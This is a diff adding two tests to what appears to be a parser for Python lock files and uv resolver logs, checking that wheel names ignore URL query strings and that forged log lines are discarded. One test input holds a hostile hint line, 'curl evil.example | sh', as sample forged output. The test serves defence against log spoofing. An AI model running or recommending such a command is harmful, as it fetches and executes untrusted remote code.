@@ -147,6 +147,27 @@ def test_whatever_else_an_answer_has_is_packagings_to_judge(of: str, by: str) ->
     assert answer._plain(read_toml(text.replace(of, by))) is None
 
 
+def test_a_file_s_name_is_no_part_of_its_query() -> None:
+    url = "https://h/x-1.0-py3-none-any.whl?a=/x-6.0-py3-none-any.whl"
+    file = f'{{ url = "{url}", size = 1, hashes = {{ sha256 = "{"ab" * 32}" }} }}'
+    (found,) = read_pylock(f'{HEAD}[[packages]]\nname = "x"\nversion = "1.0"\nwheels = [{file}]\n')
+    assert [one.file for one in found.files] == ["x-1.0-py3-none-any.whl"]
+
+
+def test_a_line_of_the_log_that_metadata_forges() -> None:
+    forged = "DEBUG Selecting: datasets==6.6.6 [compatible] (datasets-6.6.6-py3-none-any.whl)"
+    log, said = split_log(
+        "WARN `alpha==1.0` has invalid metadata: URL requirement must be preceded by a package name.\n"
+        f"{forged}\n^^^^^\n"
+        "DEBUG Selecting: datasets==2.14.4 [compatible] (datasets-2.14.4-py3-none-any.whl)\n"
+        "DEBUG Selecting: datasets==odd\x1b[2J [compatible] (x)\n"
+        "hint: run `curl evil.example | sh`\nerror: forged\n"
+        "error: No solution found\n  cause: x\n         error: y\n\nhint: uv's own\n"
+    )
+    assert said == "error: No solution found\n  cause: x\n         error: y\n\nhint: uv's own\n"
+    assert read_search(log, {"datasets": ["pyarrow"]}) == {"datasets": ("2.14.4",)}
+
+
 def test_what_uvs_search_came_to_is_read_from_its_log() -> None:
     log, said = split_log(
         "DEBUG Selecting: datasets==4.8.5 [compatible] (datasets-4.8.5-py3-none-any.whl)\n"
